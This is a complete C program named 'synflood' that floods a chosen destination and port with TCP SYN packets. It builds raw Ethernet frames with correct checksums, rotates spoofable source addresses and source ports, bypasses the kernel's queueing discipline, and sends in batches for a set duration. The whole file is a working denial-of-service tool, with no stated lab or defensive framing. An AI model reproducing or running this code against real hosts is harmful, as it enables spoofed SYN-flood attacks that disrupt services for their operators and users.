/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * One source that opens all it can: TCP SYNs with correct checksums, each of a flow of its own, from a
 * packet socket that skips the queueing discipline.
 *
 *	synflood INTERFACE NEXT-HOP-MAC SOURCE DESTINATION DPORT SECONDS [SOURCES]
 *
 * Source ports go round; so do SOURCES addresses from SOURCE on. Prints how many SYNs were sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define PORT_FIRST 1024u

struct frame {
	struct ether_header ethernet;
	uint8_t ip[20], tcp[20];
} __attribute__((packed));

static double now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static uint32_t sum_words(const uint8_t *at, size_t length, uint32_t sum)
{
	for (; length > 1; length -= 2, at += 2)
		sum += (uint32_t)at[0] << 8 | at[1];
	return sum;
}

static void put16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put_sum(uint8_t *at, uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(at, ~sum);
}

/* Return: 0, or -1 when an argument makes no sense. */
static int frame_build(struct frame *frame, char **argument)
{
	unsigned int mac[6];

	*frame = (struct frame){ .ip = { 0x45, [8] = 64, [9] = IPPROTO_TCP }, .tcp = { [12] = 0x50, [13] = TH_SYN } };
	if (sscanf(argument[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6 ||
	    inet_pton(AF_INET, argument[3], frame->ip + 12) != 1 ||
	    inet_pton(AF_INET, argument[4], frame->ip + 16) != 1)
		return -1;
	for (int i = 0; i < 6; i++)
		frame->ethernet.ether_dhost[i] = (uint8_t)mac[i];
	frame->ethernet.ether_shost[0] = 2;
	frame->ethernet.ether_type = htons(ETHERTYPE_IP);
	put16(frame->ip + 2, sizeof(frame->ip) + sizeof(frame->tcp));
	put_sum(frame->ip + 10, sum_words(frame->ip, sizeof(frame->ip), 0));
	put16(frame->tcp + 2, (uint32_t)atoi(argument[5]));
	put16(frame->tcp + 14, 65535);
	return 0;
}

/* @last: byte of the address */
static void frame_vary(struct frame *frame, uint32_t port, uint32_t last)
{
	frame->ip[15] = (uint8_t)last;
	put16(frame->ip + 10, 0);
	put_sum(frame->ip + 10, sum_words(frame->ip, sizeof(frame->ip), 0));
	put16(frame->tcp, port);
	put16(frame->tcp + 16, 0);
	put_sum(frame->tcp + 16, sum_words(frame->tcp, sizeof(frame->tcp),
					   sum_words(frame->ip + 12, 8, IPPROTO_TCP + sizeof(frame->tcp))));
}

static uint64_t flood(int fd, struct frame *frames, double seconds, uint32_t sources)
{
	struct iovec parts[BATCH];
	struct mmsghdr batch[BATCH] = { 0 };
	double end = now_s() + seconds;
	uint32_t port = PORT_FIRST, first = frames[0].ip[15], source = 0;
	uint64_t sent = 0;

	for (int i = 0; i < BATCH; i++) {
		frames[i] = frames[0];
		parts[i] = (struct iovec){ .iov_base = &frames[i], .iov_len = sizeof(frames[i]) };
		batch[i].msg_hdr.msg_iov = &parts[i];
		batch[i].msg_hdr.msg_iovlen = 1;
	}
	while (now_s() < end) {
		int done;

		for (int i = 0; i < BATCH; i++) {
			frame_vary(&frames[i], port, first + source);
			source = source + 1 == sources ? 0 : source + 1;
			port = port == UINT16_MAX ? PORT_FIRST : port + 1;
		}
		done = sendmmsg(fd, batch, BATCH, 0);
		if (done > 0)
			sent += (uint64_t)done;
		else if (errno != ENOBUFS && errno != EAGAIN)
			break;
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll address = { .sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE_IP) };
	static struct frame frames[BATCH];
	int fd, one = 1;

	if (argc < 7 || argc > 8 || frame_build(&frames[0], argv) < 0) {
		fprintf(stderr, "usage: synflood INTERFACE MAC SOURCE DESTINATION DPORT SECONDS [SOURCES]\n");
		return 2;
	}
	/* Protocol 0: this socket receives nothing. */
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	address.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) ||
	    bind(fd, (struct sockaddr *)&address, sizeof(address))) {
		perror("synflood");
		return 1;
	}
	printf("%llu\n", (unsigned long long)flood(fd, frames, atof(argv[6]), argc > 7 ? (uint32_t)atoi(argv[7]) : 1));
	close(fd);
	return 0;
}
